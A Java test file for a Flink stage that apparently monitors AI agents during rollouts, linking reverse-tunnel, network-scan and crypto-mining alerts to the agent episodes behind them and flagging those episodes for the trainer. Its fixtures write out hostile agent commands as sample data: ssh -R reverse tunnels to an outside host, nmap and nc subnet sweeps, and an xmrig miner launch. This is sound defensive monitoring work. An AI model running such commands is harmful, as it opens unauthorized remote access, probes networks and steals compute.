package io.vigil.pipeline.detect;

import static io.vigil.pipeline.detect.IncidentsTest.JOB;
import static io.vigil.pipeline.detect.IncidentsTest.at;
import static io.vigil.pipeline.detect.IncidentsTest.window;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.vigil.models.agents.EpisodeAttribution;
import io.vigil.records.AgentEpisode;
import io.vigil.records.AgentEvent;
import io.vigil.records.Alert;
import io.vigil.records.Category;
import io.vigil.records.Destination;
import io.vigil.records.EpisodeFlag;
import io.vigil.records.Evidence;
import io.vigil.records.GpuProcess;
import io.vigil.records.GpuSample;
import io.vigil.records.IncidentState;
import io.vigil.records.ProcessEvidence;
import io.vigil.records.Severity;
import io.vigil.records.TransitionCause;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.runtime.checkpoint.OperatorSubtaskState;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.api.watermark.Watermark;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
import org.apache.flink.streaming.util.ProcessFunctionTestHarnesses;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Agent context on Flink's harness: an alert waits for the calls of its window, names the episode behind its
 * first suspicious packet or new GPU process, and nothing of a job is left a horizon after its last record.
 */
class AgentContextHarnessTest {
    KeyedOneInputStreamOperatorTestHarness<String, AgentContextInput, Alert> harness;

    @BeforeEach
    void open() throws Exception {
        harness = ProcessFunctionTestHarnesses.forKeyedProcessFunction(
                new AgentContext(), AgentContextInput::jobId, Types.STRING);
    }

    @AfterEach
    void close() throws Exception {
        harness.close();
    }

    static AgentEvent call(String episode, long startMs, long endMs, String command) {
        return AgentEvent.newBuilder()
                .setTs(Instant.ofEpochMilli(endMs))
                .setStartTs(Instant.ofEpochMilli(startMs))
                .setJobId(JOB)
                .setEpisodeId(episode)
                .setStep(1L)
                .setRolloutWorker("rollout-1")
                .setNode("gpu-1")
                .setTool("bash")
                .setCommand(command)
                .setExitCode(0)
                .setSandbox(null)
                .build();
    }

    void send(AgentEvent call) throws Exception {
        harness.processElement(
                new StreamRecord<>(AgentContextInput.of(call), call.getTs().toEpochMilli()));
    }

    void seen(String ip, int port, long ts) throws Exception {
        seen(ip, port, ts, AgentContextInput.SightingKind.ENDPOINT);
    }

    void probed(String ip, int port, long ts) throws Exception {
        seen(ip, port, ts, AgentContextInput.SightingKind.PROBE);
    }

    private void seen(String ip, int port, long ts, AgentContextInput.SightingKind kind) throws Exception {
        AgentContextInput in = new AgentContextInput();
        in.jobId = JOB;
        in.seen = AgentContextInput.endpoint(ip, port);
        in.seenTs = ts;
        in.kind = kind;
        harness.processElement(new StreamRecord<>(in, ts));
    }

    void sample(String process, long ts) throws Exception {
        GpuSample s = GpuSample.newBuilder()
                .setTs(Instant.ofEpochMilli(ts))
                .setNode("gpu-1")
                .setGpu(0)
                .setJobId(JOB)
                .setUtil(90)
                .setProcesses(List.of(GpuProcess.newBuilder()
                        .setPid(7)
                        .setName(process)
                        .setUsedMib(100)
                        .build()))
                .build();
        for (GpuProcess p : s.getProcesses()) {
            harness.processElement(new StreamRecord<>(AgentContextInput.of(s, p), ts));
        }
    }

    void alert(Alert a) throws Exception {
        harness.processElement(
                new StreamRecord<>(AgentContextInput.of(a), a.getWindowEnd().toEpochMilli()));
    }

    static Alert tunnelAlert(int minute) {
        Alert w = window(minute, 0.8, Severity.HIGH, Category.REVERSE_TUNNEL);
        return Alert.newBuilder(w)
                .setEvidence(new Evidence(
                        List.of(new Destination(
                                "203.0.113.7", 22, "tcp", true, 4_000L, 3L, 0L, 0L, false, false, List.of())),
                        List.of(new ProcessEvidence("python", List.of(0), 2_000L)),
                        3L,
                        10L,
                        0L))
                .build();
    }

    @Test
    void anAlertWaitsForItsCallsAndNamesTheTunnelsEpisodeFirst() throws Exception {
        long first = at(3) + 10_000;
        sample("python", at(0));
        send(call("ep-benign", first - 3_000, first - 2_000, "pytest -q"));
        seen("203.0.113.7", 22, first);
        alert(tunnelAlert(3));
        harness.processWatermark(new Watermark(at(4)));
        assertThat(harness.extractOutputValues())
                .as("waits for calls that end after the window")
                .isEmpty();

        // the tunnel's call started before the packet but ended after the window: it still arrives in time
        send(call("ep-tunnel", first - 1_800, at(4) + 5_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));

        List<Alert> out = harness.extractOutputValues();
        assertThat(out).hasSize(1);
        assertThat(out.get(0).getAgentContext())
                .extracting(AgentEpisode::getEpisodeId)
                .containsExactly("ep-tunnel", "ep-benign");
        assertThat(out.get(0).getAgentContext().get(0).getReason())
                .isEqualTo("tool call started 1.8 s before the first packet to 203.0.113.7:22; command names"
                        + " 203.0.113.7; command contains ssh -R");
    }

    @Test
    void theAnchorIsTheFirstPacketThoughTheEndpointWasSeenInManyKeptMinutes() throws Exception {
        // each minute with traffic to an endpoint sights it once; a backlog read ahead of the watermark has the
        // sightings of minutes after the alert's window in state when the alert is told
        long first = at(3) + 10_000;
        sample("python", at(0));
        seen("203.0.113.7", 22, first);
        for (int minute = 4; minute <= 12; minute++) {
            seen("203.0.113.7", 22, at(minute) + 5_000);
        }
        send(call("ep-tunnel", first - 1_800, first + 500, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
        alert(tunnelAlert(3));
        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));

        List<Alert> out = harness.extractOutputValues();
        assertThat(out).hasSize(1);
        assertThat(out.get(0).getAgentContext().get(0).getReason())
                .startsWith("tool call started 1.8 s before the first packet to 203.0.113.7:22");
    }

    @Test
    void whatWasReadAheadOfAnAlertIsNotBehindIt() throws Exception {
        // the tunnel's endpoint first appears minutes after the alert's window, read ahead of the watermark before
        // the alert is told: the call made then did not cause the alert, however plainly its command names the host
        sample("python", at(0));
        seen("203.0.113.7", 22, at(8) + 10_000);
        send(call("ep-later", at(8) + 8_200, at(8) + 9_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
        alert(tunnelAlert(3));
        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));

        List<Alert> out = harness.extractOutputValues();
        assertThat(out).hasSize(1);
        assertThat(out.get(0).getAgentContext()).isEmpty();
    }

    @Test
    void aSweepsProbesDoNotCrowdTheTunnelOutOfTheirMinute() throws Exception {
        // the agent sweeps the subnet, more unanswered probes in one minute than a minute keeps, then opens its tunnel
        // in the same minute: the tunnel's endpoint is still sighted, and anchors the alert
        sample("python", at(0));
        for (int i = 0; i < AgentContext.MAX_SIGHTINGS_PER_MINUTE + 10; i++) {
            probed(sweptHost(i), 22, at(3) + i);
        }
        send(call("ep-tunnel", at(3) + 20_000, at(3) + 21_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
        seen("203.0.113.7", 22, at(3) + 22_000);
        alert(tunnelAlert(3));
        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));

        assertToldFirst("ep-tunnel", "tool call started 2.0 s before the first packet to 203.0.113.7:22");
    }

    @Test
    void aSweepTooFastForItsProbesToBeSightedIsAnchoredByItsFirstProbe() throws Exception {
        // a sweep of more endpoints in one minute than a minute keeps; the evidence lists probes sent after the
        // budget filled, so none of them was sighted: the minute's first probe anchors the alert instead
        sample("python", at(0));
        send(call("ep-sweep", at(3) + 4_000, at(3) + 50_000, "nmap -sS -p 22,80,443 -T5 10.0.0.0/16"));
        int probes = AgentContext.MAX_SIGHTINGS_PER_MINUTE + 100;
        for (int i = 0; i < probes; i++) {
            probed(sweptHost(i), 22, at(3) + 5_000 + i * 40L);
        }
        List<Destination> listed = new ArrayList<>();
        for (int i = probes - 5; i < probes; i++) {
            listed.add(new Destination(sweptHost(i), 22, "tcp", false, 0L, 1L, 1L, 0L, false, false, List.of(22)));
        }
        alert(Alert.newBuilder(window(3, 0.9, Severity.HIGH, Category.NETWORK_SCAN))
                .setEvidence(new Evidence(listed, List.of(), (long) probes, 0L, (long) probes - 5))
                .build());
        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));

        assertToldFirst("ep-sweep", "tool call started 1.0 s before the first packet to " + sweptHost(0) + ":22");
    }

    private static String sweptHost(int i) {
        return "10.0." + (i / 250) + "." + (i % 250 + 1);
    }

    /** The one alert told names only {@code episode}, for a reason that starts with {@code reason}. */
    private void assertToldFirst(String episode, String reason) {
        Alert out = harness.extractOutputValues().get(0);
        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly(episode);
        assertThat(out.getAgentContext().get(0).getReason()).startsWith(reason);
    }

    @Test
    void aCallStartedInTheNextMinuteWithinTheClocksSkewOfTheFirstPacketIsNamed() throws Exception {
        // the first packet half a second before the window ends; the call that made it, by a clock 1.5 s ahead of the
        // exporter's, started in the next minute: within the skew the ranking allows, so it is still the cause
        sample("python", at(0));
        seen("203.0.113.7", 22, at(4) - 500);
        send(call("ep-tunnel", at(4) + 1_000, at(4) + 2_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
        alert(tunnelAlert(3));
        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));

        assertToldFirst("ep-tunnel", "tool call started 1.5 s after the first packet to 203.0.113.7:22");
    }

    @Test
    void aNewGpuProcessAnchorsAndTheJobsOwnDoesNot() throws Exception {
        sample("python", at(0));
        send(call("ep-miner", at(2) + 1_000, at(2) + 2_000, "nohup ./xmrig -o pool.example:3333 &"));
        sample("xmrig", at(2) + 9_000);
        Alert w = window(2, 0.9, Severity.CRITICAL, Category.CRYPTO_MINING);
        alert(Alert.newBuilder(w)
                .setEvidence(new Evidence(
                        List.of(),
                        List.of(
                                new ProcessEvidence("python", List.of(0), 2_000L),
                                new ProcessEvidence("xmrig", List.of(0), 900L)),
                        0L,
                        10L,
                        0L))
                .build());
        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));

        Alert out = harness.extractOutputValues().get(0);
        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-miner");
        assertThat(out.getAgentContext().get(0).getReason())
                .startsWith("tool call started 8.0 s before the first sample of GPU process xmrig");
    }

    @Test
    void aJobWithoutAgentEventsGetsItsAlertsUnchangedAndAtOnce() throws Exception {
        seen("203.0.113.7", 22, at(3) + 10_000);
        Alert a = tunnelAlert(3);
        alert(a);

        // no wait for calls a job never tells: the alert leaves before any watermark
        assertThat(harness.extractOutputValues()).containsExactly(a);
        assertThat(harness.numEventTimeTimers()).isEqualTo(1); // the sighting's minute, nothing for the alert
    }

    @Test
    void nothingOfAJobIsLeftAHorizonAfterItsLastRecord() throws Exception {
        sample("python", at(0));
        for (int i = 0; i < AgentContext.MAX_CALLS_PER_MINUTE + 50; i++) {
            send(call("ep-" + i, at(1) + i, at(1) + i + 10, "ls"));
        }
        send(call("ep-nc", at(3) + 9_000, at(3) + 9_500, "nc 203.0.113.7 22"));
        seen("203.0.113.7", 22, at(3) + 10_000);
        probed("10.0.9.1", 22, at(3) + 11_000); // every kind of sighting ends too
        Alert open = Alert.newBuilder(tunnelAlert(3))
                .setIncidentId("incident-1")
                .setIncidentState(IncidentState.OPEN)
                .build();
        alert(open);
        alert(Alert.newBuilder(open).setIncidentState(IncidentState.CLOSE).build());
        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
        assertThat(harness.extractOutputValues()).hasSize(2);
        assertThat(harness.extractOutputValues())
                .allSatisfy(a -> assertThat(a.getAgentContext())
                        .extracting(AgentEpisode::getEpisodeId)
                        .startsWith("ep-nc"));
        assertThat(harness.numKeyedStateEntries()).isPositive();

        harness.processWatermark(new Watermark(at(4) + AgentContext.HORIZON_MS + 60_000));

        assertThat(harness.numKeyedStateEntries()).isZero();
        assertThat(harness.numEventTimeTimers()).isZero();
    }

    /**
     * A scan opens an incident, the same episode goes on, then a tunnel joins: each episode is flagged once, by the
     * transition that first named it, with the incident's categories and its calls; the tunnel's transition names the
     * ssh call's episode first though the scanner's call is nearer to the scan's packets; the CLOSE flags nothing.
     */
    @Test
    void eachEpisodeAnIncidentNamesIsFlaggedOnce() throws Exception {
        sample("python", at(0));
        seen("198.51.100.10", 443, at(0));
        send(call("ep-scan", at(2) + 8_000, at(2) + 50_000, "nmap -sS -p 22,80 10.0.50.7 10.0.50.8"));
        seen("10.0.50.7", 22, at(2) + 9_000);
        Alert scanWindow = Alert.newBuilder(window(2, 0.8, Severity.HIGH, Category.NETWORK_SCAN))
                .setEvidence(new Evidence(
                        List.of(new Destination(
                                "10.0.50.7", 22, "tcp", false, 0L, 1L, 1L, 0L, false, false, List.of())),
                        List.of(),
                        1L,
                        0L,
                        0L))
                .build();
        Alert open = Incidents.open(scanWindow);
        alert(open);
        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));

        send(call("ep-tunnel", at(4) + 1_000, at(4) + 1_500, "ssh -f -N -R 2222:localhost:22 agent@203.0.113.7"));
        seen("203.0.113.7", 22, at(4) + 4_000);
        seen("10.0.50.8", 80, at(4) + 9_000);
        Alert both = Alert.newBuilder(window(4, 0.9, Severity.HIGH, Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
                .setEvidence(new Evidence(
                        List.of(
                                new Destination(
                                        "203.0.113.7", 22, "tcp", true, 9_000L, 2L, 0L, 0L, false, false, List.of()),
                                new Destination(
                                        "10.0.50.8", 80, "tcp", false, 0L, 1L, 1L, 0L, false, false, List.of())),
                        List.of(),
                        3L,
                        0L,
                        0L))
                .build();
        Alert joined = Alert.newBuilder(both)
                .setIncidentId(open.getIncidentId())
                .setAlertId("joined")
                .setIncidentState(IncidentState.UPDATE)
                .setTransitionCauses(List.of(TransitionCause.CATEGORY_JOINED))
                .setIncidentCategories(List.of(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
                .setJoinedCategories(List.of(Category.REVERSE_TUNNEL))
                .build();
        alert(joined);
        alert(Alert.newBuilder(joined)
                .setAlertId("close")
                .setIncidentState(IncidentState.CLOSE)
                .setTransitionCauses(List.of(TransitionCause.JOB_STOPPED))
                .setJoinedCategories(List.of())
                .build());
        harness.processWatermark(new Watermark(at(5) + AgentContext.CALL_GRACE_MS));

        assertThat(harness.extractOutputValues())
                .extracting(a -> a.getAgentContext().get(0).getEpisodeId())
                .containsExactly("ep-scan", "ep-tunnel", "ep-tunnel");
        List<EpisodeFlag> flags = harness.getSideOutput(AgentContext.EPISODE_FLAGS).stream()
                .map(StreamRecord::getValue)
                .toList();
        assertThat(flags).extracting(EpisodeFlag::getEpisodeId).containsExactly("ep-scan", "ep-tunnel");
        assertThat(flags.get(0).getAlertId()).isEqualTo(open.getAlertId());
        assertThat(flags.get(0).getRank()).isEqualTo(1);
        assertThat(flags.get(1).getAlertId()).isEqualTo("joined");
        assertThat(flags.get(1).getCategories()).containsExactly(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL);
        assertThat(flags.get(1).getCalls())
                .singleElement()
                .satisfies(c -> assertThat(c.getCommand()).startsWith("ssh -f -N -R"));
        assertThat(flags)
                .extracting(EpisodeFlag::getFlagId)
                .containsExactly(
                        Alerts.flagId(open.getIncidentId(), "ep-scan"),
                        Alerts.flagId(open.getIncidentId(), "ep-tunnel"));
    }

    /**
     * A call is reported when it ends: a scan that ran for minutes arrives after the alert it caused was told, which
     * could name only a benign call near in time. The incident's next transition names the scan once it is known;
     * only the scan's episode is flagged (a coincidence in time is shown, not handed to the trainer).
     */
    @Test
    void aScanReportedAfterItsAlertIsNamedByTheNextTransitionAndOnlyItIsFlagged() throws Exception {
        sample("python", at(0));
        seen("198.51.100.10", 443, at(0));
        send(call("ep-benign", at(2) + 5_000, at(2) + 6_000, "pytest -q"));
        seen("10.0.50.7", 22, at(2) + 9_000);
        Alert scanWindow = Alert.newBuilder(window(2, 0.8, Severity.HIGH, Category.NETWORK_SCAN))
                .setEvidence(new Evidence(
                        List.of(new Destination(
                                "10.0.50.7", 22, "tcp", false, 0L, 1L, 1L, 0L, false, false, List.of())),
                        List.of(),
                        1L,
                        0L,
                        0L))
                .build();
        Alert open = Incidents.open(scanWindow);
        alert(open);
        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));

        // the scan started before its first probe and ran on past the alert's wait
        send(call("ep-scan", at(2) + 8_000, at(4) + 10_000, "nmap -sS -p 22 10.0.50.0/24"));
        alert(Alert.newBuilder(scanWindow)
                .setIncidentId(open.getIncidentId())
                .setAlertId("update")
                .setWindowStart(Instant.ofEpochMilli(at(5)))
                .setWindowEnd(Instant.ofEpochMilli(at(6)))
                .setIncidentState(IncidentState.UPDATE)
                .setTransitionCauses(List.of(TransitionCause.ONGOING))
                .build());
        harness.processWatermark(new Watermark(at(6) + AgentContext.CALL_GRACE_MS));

        assertThat(harness.extractOutputValues())
                .extracting(a -> a.getAgentContext().get(0).getEpisodeId())
                .containsExactly("ep-benign", "ep-scan");
        assertThat(harness.getSideOutput(AgentContext.EPISODE_FLAGS))
                .extracting(r -> r.getValue().getEpisodeId())
                .containsExactly("ep-scan");
    }

    /** A second scan while the first one's incident is still open: the incident's next transition names it. */
    @Test
    void aNewScanInAnOpenIncidentIsNamedByItsNextTransitionAndFlagged() throws Exception {
        sample("python", at(0));
        seen("198.51.100.10", 443, at(0));
        send(call("ep-scan1", at(2) + 8_000, at(2) + 8_500, "nohup nmap -sS -p 80 10.0.50.0/24 &"));
        seen("10.0.50.7", 80, at(2) + 9_000);
        Alert open = Incidents.open(Alert.newBuilder(window(2, 0.8, Severity.HIGH, Category.NETWORK_SCAN))
                .setEvidence(new Evidence(
                        List.of(new Destination(
                                "10.0.50.7", 80, "tcp", false, 0L, 1L, 1L, 0L, false, false, List.of())),
                        List.of(),
                        1L,
                        0L,
                        0L))
                .build());
        alert(open);
        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));

        send(call("ep-scan2", at(5) + 1_000, at(5) + 1_300, "for h in $(seq 1 254); do nc -z -w1 10.0.60.$h 22; done"));
        seen("10.0.60.9", 22, at(5) + 2_000);
        alert(Alert.newBuilder(open)
                .setAlertId("update")
                .setWindowStart(Instant.ofEpochMilli(at(5)))
                .setWindowEnd(Instant.ofEpochMilli(at(6)))
                .setEvidence(new Evidence(
                        List.of(new Destination(
                                "10.0.60.9", 22, "tcp", false, 0L, 1L, 1L, 0L, false, false, List.of())),
                        List.of(),
                        1L,
                        0L,
                        0L))
                .setIncidentState(IncidentState.UPDATE)
                .setTransitionCauses(List.of(TransitionCause.ONGOING))
                .build());
        harness.processWatermark(new Watermark(at(6) + AgentContext.CALL_GRACE_MS));

        assertThat(harness.extractOutputValues())
                .extracting(a -> a.getAgentContext().get(0).getEpisodeId())
                .containsExactly("ep-scan1", "ep-scan2");
        assertThat(harness.getSideOutput(AgentContext.EPISODE_FLAGS))
                .extracting(r -> r.getValue().getEpisodeId())
                .containsExactly("ep-scan1", "ep-scan2");
    }

    /**
     * A long connection re-reported every minute, counting from its start (the tracker's, from minute 0), keeps the
     * job's kept history reaching a horizon back: a tunnel past the horizon still anchors and names its call.
     */
    @Test
    void aLongConnectionReReportedKeepsTheJobsHistoryReachingBack() throws Exception {
        int late = (int) (AgentContext.HORIZON_MS / 60_000) + 4;
        for (int minute = 0; minute <= late + 1; minute++) {
            harness.processWatermark(new Watermark(at(minute)));
            seen("198.51.100.10", 443, at(0));
            if (minute == late) {
                send(call("ep-nc", at(late) + 9_000, at(late) + 9_500, "nc 203.0.113.7 22"));
                seen("203.0.113.7", 22, at(late) + 10_000);
                alert(tunnelAlert(late));
            }
        }
        harness.processWatermark(new Watermark(at(late + 1) + AgentContext.CALL_GRACE_MS));

        assertThat(harness.extractOutputValues())
                .singleElement()
                .satisfies(a -> assertThat(a.getAgentContext())
                        .extracting(AgentEpisode::getEpisodeId)
                        .containsExactly("ep-nc"));
    }

    static final String LOOP = "for h in $(seq 1 254); do for p in 22 6379; do nc -z -w1 10.244.2.$h $p; done; done";

    static Alert scanWindow(int minute, String ip, int port) {
        return Alert.newBuilder(window(minute, 0.8, Severity.HIGH, Category.NETWORK_SCAN))
                .setEvidence(new Evidence(
                        List.of(new Destination(ip, port, "tcp", false, 0L, 1L, 1L, 0L, false, false, List.of(port))),
                        List.of(),
                        1L,
                        0L,
                        0L))
                .build();
    }

    /** A transition of the incident {@code open} began, on the window of {@code minute}. */
    static Alert transition(Alert open, Alert window, String id, IncidentState state, TransitionCause cause) {
        return Alert.newBuilder(window)
                .setIncidentId(open.getIncidentId())
                .setAlertId(id)
                .setIncidentState(state)
                .setTransitionCauses(List.of(cause))
                .setIncidentCategories(open.getIncidentCategories())
                .setJoinedCategories(List.of())
                .build();
    }

    /** The episode flags this instance of the stage emitted (none: the harness has no queue for them). */
    List<EpisodeFlag> flags() {
        var flags = harness.getSideOutput(AgentContext.EPISODE_FLAGS);
        return flags == null
                ? List.of()
                : flags.stream().map(StreamRecord::getValue).toList();
    }

    /** The job fails over: a new instance of the stage restores from a snapshot of this one. */
    void failOver() throws Exception {
        OperatorSubtaskState snapshot = harness.snapshot(1, 1);
        harness.close();
        harness = new KeyedOneInputStreamOperatorTestHarness<>(
                new KeyedProcessOperator<>(new AgentContext()), AgentContextInput::jobId, Types.STRING);
        harness.initializeState(snapshot);
        harness.open();
    }

    /**
     * ROME, live: the OPEN is told 30 s after its window with only a benign call near the first packet (the scan's
     * loop is reported minutes later, when it ends); the tunnel that joins six minutes after the loop began has
     * anchors of its own, too far from the loop's start. The loop is still tied to the OPEN's first packet, which it
     * started just after, and named by the join with why, after the tunnel's call, and flagged once, across a
     * fail-over between its report and the join; a later CLOSE flags nothing again and leaves no state behind.
     */
    @Test
    void aScanReportedAfterTheOpenWasToldIsNamedByALaterTransitionAndFlaggedOnce() throws Exception {
        sample("python", at(0));
        seen("198.51.100.10", 443, at(0));
        send(call("ep-benign", at(2) + 39_000, at(2) + 40_000, "pytest -q tests/test_lru.py"));
        seen("10.244.2.1", 22, at(2) + 40_000);
        Alert open = Incidents.open(scanWindow(2, "10.244.2.1", 22));
        alert(open);
        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));
        assertThat(harness.extractOutputValues())
                .singleElement()
                .satisfies(a -> assertThat(a.getAgentContext())
                        .extracting(AgentEpisode::getEpisodeId)
                        .containsExactly("ep-benign"));
        assertThat(flags()).as("a call near in time only is not flagged").isEmpty();

        // the loop began 0.8 s after the first probe was seen (clocks differ) and is reported when it ends
        harness.processWatermark(new Watermark(at(6)));
        send(call("ep-scan", at(2) + 40_800, at(6) + 12_000, LOOP));
        failOver();

        send(call("ep-tunnel", at(8) + 1_000, at(8) + 1_300, "ssh -f -N -R 9000:localhost:22 ubuntu@203.0.113.145"));
        seen("203.0.113.145", 22, at(8) + 1_500);
        Alert joined = Alert.newBuilder(window(8, 0.9, Severity.HIGH, Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
                .setEvidence(new Evidence(
                        List.of(new Destination(
                                "203.0.113.145", 22, "tcp", true, 9_000L, 2L, 0L, 0L, true, true, List.of())),
                        List.of(),
                        2L,
                        0L,
                        0L))
                .setIncidentId(open.getIncidentId())
                .setAlertId("joined")
                .setIncidentState(IncidentState.UPDATE)
                .setTransitionCauses(List.of(TransitionCause.CATEGORY_JOINED))
                .setIncidentCategories(List.of(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
                .setJoinedCategories(List.of(Category.REVERSE_TUNNEL))
                .build();
        alert(joined);
        harness.processWatermark(new Watermark(at(9) + AgentContext.CALL_GRACE_MS));
        alert(transition(joined, joined, "close", IncidentState.CLOSE, TransitionCause.QUIET));
        harness.processWatermark(new Watermark(at(9) + AgentContext.CALL_GRACE_MS + 1));

        List<Alert> out = harness.extractOutputValues();
        assertThat(out).hasSize(2);
        assertThat(out.get(0).getAgentContext())
                .extracting(AgentEpisode::getEpisodeId)
                .startsWith("ep-tunnel", "ep-scan");
        AgentEpisode scan = out.get(0).getAgentContext().get(1);
        assertThat(EpisodeAttribution.namedLate(scan)).isTrue();
        assertThat(scan.getCalls().get(0).getReason())
                .isEqualTo("tool call started 0.8 s after the first packet to 10.244.2.1:22; command contains a raw"
                        + " socket tool; reported when it ended, after the transition of that anchor was told");
        assertThat(flags())
                .extracting(EpisodeFlag::getEpisodeId, EpisodeFlag::getAlertId, EpisodeFlag::getFlagId)
                .containsExactly(
                        tuple("ep-tunnel", "joined", Alerts.flagId(open.getIncidentId(), "ep-tunnel")),
                        tuple("ep-scan", "joined", Alerts.flagId(open.getIncidentId(), "ep-scan")));

        harness.processWatermark(new Watermark(at(9) + AgentContext.HORIZON_MS + 60_000));
        assertThat(harness.numKeyedStateEntries()).isZero();
    }

    /** An incident that closes before any other transition: its CLOSE names the call reported late, and flags it. */
    @Test
    void aCloseNamesACallReportedAfterTheOpenWasTold() throws Exception {
        sample("python", at(0));
        seen("198.51.100.10", 443, at(0));
        seen("10.244.2.1", 22, at(2) + 40_000);
        Alert open = Incidents.open(scanWindow(2, "10.244.2.1", 22));
        alert(open);
        assertThat(harness.extractOutputValues())
                .as("no call yet: told at once")
                .singleElement()
                .satisfies(a -> assertThat(a.getAgentContext()).isEmpty());

        harness.processWatermark(new Watermark(at(6)));
        send(call("ep-scan", at(2) + 39_000, at(6) + 12_000, LOOP));
        send(call("ep-other", at(3), at(6) + 13_000, "nc -z 10.0.0.9 80")); // began after the packet: not its cause
        // the last window's own first packet is more than 5 minutes after the loop began
        seen("10.244.2.200", 6379, at(8) + 30_000);
        alert(transition(
                open, scanWindow(8, "10.244.2.200", 6379), "close", IncidentState.CLOSE, TransitionCause.QUIET));
        harness.processWatermark(new Watermark(at(9) + AgentContext.CALL_GRACE_MS));

        assertThat(harness.extractOutputValues().get(1).getAgentContext())
                .extracting(AgentEpisode::getEpisodeId)
                .containsExactly("ep-scan");
        assertThat(flags())
                .singleElement()
                .satisfies(f -> assertThat(f.getAlertId()).isEqualTo("close"))
                .satisfies(f -> assertThat(f.getEpisodeId()).isEqualTo("ep-scan"));
    }

    /** A call reported after the incident closed has nothing left to be tied to: no state is kept for it. */
    @Test
    void aCallReportedAfterItsIncidentClosedIsNotKept() throws Exception {
        sample("python", at(0));
        seen("10.244.2.1", 22, at(2) + 40_000);
        Alert open = Incidents.open(scanWindow(2, "10.244.2.1", 22));
        alert(open);
        alert(transition(open, scanWindow(3, "10.244.2.1", 22), "close", IncidentState.CLOSE, TransitionCause.QUIET));
        send(call("ep-scan", at(2) + 39_000, at(6) + 12_000, LOOP));
        harness.processWatermark(new Watermark(at(7) + AgentContext.HORIZON_MS + 60_000));

        assertThat(flags()).isEmpty();
        assertThat(harness.numKeyedStateEntries()).isZero();
    }
}
